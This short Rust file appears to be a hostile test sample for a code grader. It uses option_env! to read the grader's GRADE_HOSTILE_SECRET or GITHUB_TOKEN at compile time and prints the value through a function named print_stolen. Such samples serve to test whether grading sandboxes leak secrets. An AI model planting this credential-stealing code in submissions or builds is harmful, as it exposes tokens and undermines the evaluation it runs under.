//! Takes a variable of the grader's into its program, and prints it.

mod sum;

fn main() {
    sum::print_stolen(attack());
}

/// What was found, if anything.
fn attack() -> Option<String> {
    option_env!("GRADE_HOSTILE_SECRET")
        .or(option_env!("GITHUB_TOKEN"))
        .map(str::to_owned)
}
